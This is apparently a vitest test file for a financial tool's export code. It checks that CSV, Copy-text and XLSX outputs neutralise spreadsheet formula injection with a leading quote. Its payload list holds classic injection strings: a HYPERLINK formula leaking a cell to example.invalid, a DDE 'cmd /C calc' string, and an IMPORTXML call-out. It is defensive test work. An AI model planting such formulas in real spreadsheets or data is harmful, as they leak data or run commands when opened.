/**
 * CSV formula injection (OWASP, "CSV Injection": a spreadsheet runs a cell beginning with
 * =, +, -, @, tab or carriage return as a formula). Names reach exports from imports and
 * spec labels; here assets are imported under the classic payloads, a factor is named
 * with one and the spec label is another. In every CSV the tool writes (run exports, the
 * app's table CSV, `returns --csv`) and the Copy text, each such text cell must begin with
 * a single quote (the common practice OWASP gives), numbers must stay numbers, and
 * csv-parse (an independent RFC 4180 reader) must read back the payload behind the quote.
 * The XLSX export is checked too: openpyxl must see text cells, never formulas.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { present } from '../../shared/present/index.js';
import { csvField, tableCsv, tableTsv } from '../../shared/report/csv.js';
import type { FitResult } from '../../shared/results.js';
import { importPrices, importSeries } from '../../src-main/import/index.js';
import { getRun } from '../../src-main/runs/runs.js';
import { Store } from '../../src-main/store/store.js';
import { makeProject, type Project } from '../src-main/runs/helpers.js';
import { cleanTempDirs, tempDir, cli } from './helpers.js';

/** The classic payloads (OWASP's examples and their usual variants). */
const PAYLOADS = ['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@ROUND(1,0)'];
const LABEL = '\t=IMPORTXML("http://example.invalid","//a")';
const FACTOR = '+tide_carry';
const FORMULA = /^[=+\-@\t\r\n]/;

/** Every cell that begins with a formula character is a number, or is the quote-prefixed text. */
function checkCells(rows: string[][], where: string): { neutralised: string[] } {
  const neutralised: string[] = [];
  for (const row of rows) {
    for (const cell of row) {
      if (FORMULA.test(cell)) expect(Number.isFinite(Number(cell)), `${where}: ${JSON.stringify(cell)} would run as a formula`).toBe(true);
      if (cell.startsWith("'")) neutralised.push(cell.slice(1));
    }
  }
  return { neutralised };
}

let p: Project;
let runId: number;
beforeAll(async () => {
  p = await makeProject();
  // the payload assets: copies of one company's rows under the hostile names (quoted per RFC 4180)
  const rows = readFileSync(p.file('prices.csv'), 'utf8').split('\n').filter((l) => l.includes(',brinemoor-ferries,'));
  const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const lines = ['date,asset,price'];
  // each payload asset its own path: the company's prices times a seeded wobble
  PAYLOADS.forEach((name, k) => {
    let level = 1;
    rows.forEach((l, t) => {
      const [date, , price] = l.split(',');
      level *= 1 + 0.03 * Math.sin(1.7 * t + 2.3 * k) * Math.cos(0.9 * t * (k + 1));
      lines.push(`${date},${q(name)},${(Number(price) * level).toFixed(4)}`);
    });
  });
  writeFileSync(p.file('payload-prices.csv'), `${lines.join('\n')}\n`);
  await importPrices(p.store, p.file('payload-prices.csv'));
  const f = readFileSync(p.file('factors.csv'), 'utf8').split('\n').filter(Boolean);
  writeFileSync(p.file('payload-factor.csv'), [`date,${q(FACTOR)}`, ...f.slice(1).map((l) => `${l.split(',')[0]},${l.split(',')[2]}`)].join('\n') + '\n');
  await importSeries(p.store, p.file('payload-factor.csv'), { kind: 'factor' });
  p.store.close();
  const spec = path.join(p.dir, 'payload-spec.json');
  writeFileSync(spec, JSON.stringify({ label: LABEL, riskfree: 'bill_yield', assets: PAYLOADS, model: { factors: ['harbor', FACTOR] }, estimator: { stage: 'first' } }));
  const r = cli(['fit', spec, '--db', p.dbPath, '--json']);
  expect(r.code, r.err).toBe(0);
  runId = (JSON.parse(r.out) as { run: number }).run;
}, 120_000);
afterAll(() => {
  p?.store.close();
  cleanTempDirs();
});

describe('CSV formula injection', () => {
  it('the one cell writer: formula-leading text gets a leading quote, numbers never do', () => {
    for (const s of PAYLOADS) expect(csvField(s)).toBe(`"'${s.replace(/"/g, '""')}"`);
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField(-0)).toBe('-0');
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a-b')).toBe('a-b');
  });

  it('run exports (csv with and without comment lines): every payload is text behind a quote, every number a number', () => {
    for (const comments of [false, true]) {
      const out = tempDir();
      const r = cli(['export', String(runId), '--db', p.dbPath, '--format', 'csv', '--out', `${out}/`, ...(comments ? ['--csv-comments'] : [])]);
      if (comments && r.code !== 0 && /unknown option/.test(r.err)) continue; // the comment form is an option of the export where it exists
      expect(r.code, r.err).toBe(0);
      const seen = new Set<string>();
      for (const f of readdirSync(out).filter((x) => x.endsWith('.csv'))) {
        const rows = parse(readFileSync(path.join(out, f), 'utf8'), { relax_column_count: true, comment: comments ? '#' : undefined }) as string[][];
        for (const n of checkCells(rows, f).neutralised) seen.add(n);
      }
      for (const s of PAYLOADS) expect(seen.has(s), `${s} not found behind a quote`).toBe(true);
    }
  });

  it('the app\'s table CSV and Copy text (the same writer), from the recorded result', () => {
    const s = new Store(p.dbPath, { mustExist: true });
    let result: FitResult;
    try {
      result = getRun(s, runId).result as FitResult;
    } finally {
      s.close();
    }
    const tables = present(result).tables;
    let quoted = 0;
    for (const t of tables) {
      const rows = parse(tableCsv(t), { relax_column_count: true }) as string[][];
      quoted += checkCells(rows, `table ${t.id}`).neutralised.length;
      const tsv = tableTsv(t).split('\n').map((l) => l.split('\t'));
      for (const row of tsv) for (const cell of row) if (FORMULA.test(cell)) expect(/^[-+]?[\d.,]+(?:e[-+]?\d+)?%?$/i.test(cell.trim()), `Copy text ${JSON.stringify(cell)}`).toBe(true);
    }
    expect(quoted).toBeGreaterThan(0);
  });

  it('`returns --csv`: the asset names in its header are neutralised, the returns are numbers', () => {
    // every stored asset (two payloads hold commas, which --assets would split)
    const all = cli(['returns', '--db', p.dbPath, '--frequency', 'monthly', '--csv']);
    expect(all.code, all.err).toBe(0);
    const rows = parse(all.out) as string[][];
    const { neutralised } = checkCells(rows, 'returns --csv');
    for (const s of PAYLOADS) expect(neutralised, s).toContain(s);
    expect(rows.slice(1).some((row) => row.slice(1).some((c) => c.startsWith('-') && Number.isFinite(Number(c))))).toBe(true);
  });

  const py = '/usr/bin/python3';
  const openpyxl = existsSync(py) && (() => { try { execFileSync(py, ['-c', 'import openpyxl'], { stdio: 'ignore' }); return true; } catch { return false; } })();
  it.skipIf(!openpyxl)(`the XLSX export holds the payloads as text cells, never formulas (openpyxl${openpyxl ? '' : '; skipped: /usr/bin/python3 with openpyxl not found'})`, () => {
    const out = path.join(tempDir(), 'run.xlsx');
    const r = cli(['export', String(runId), '--db', p.dbPath, '--format', 'xlsx', '--out', out]);
    expect(r.code, r.err).toBe(0);
    const script = [
      'import sys, json, openpyxl',
      'wb = openpyxl.load_workbook(sys.argv[1])',
      "cells = [(c.data_type, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]",
      "print(json.dumps({'formulas': [v for t, v in cells if t == 'f'], 'texts': [v for t, v in cells if t == 's']}))",
    ].join('\n');
    const seen = JSON.parse(execFileSync(py, ['-c', script, out], { encoding: 'utf8' })) as { formulas: string[]; texts: string[] };
    expect(seen.formulas).toEqual([]);
    for (const s of PAYLOADS) expect(seen.texts.some((t) => t.includes(s)), s).toBe(true);
  });
});
